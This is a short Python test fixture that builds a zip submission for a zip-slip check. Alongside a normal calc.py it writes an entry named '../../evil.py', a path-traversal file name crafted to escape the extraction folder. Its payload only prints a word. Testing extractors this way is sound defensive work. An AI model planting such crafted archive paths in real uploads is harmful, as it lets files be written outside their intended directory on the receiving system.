"""Builds the submission: a zip entry named ../../evil.py (zip slip)."""

import zipfile
from pathlib import Path

GOOD = (Path(__file__).parents[2] / "archives" / "GOOD_calc.py").read_text()


def build(dest, host):
    path = dest / "submission.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("calc.py", GOOD)
        zf.writestr("../../evil.py", "print('outside')")
    return path
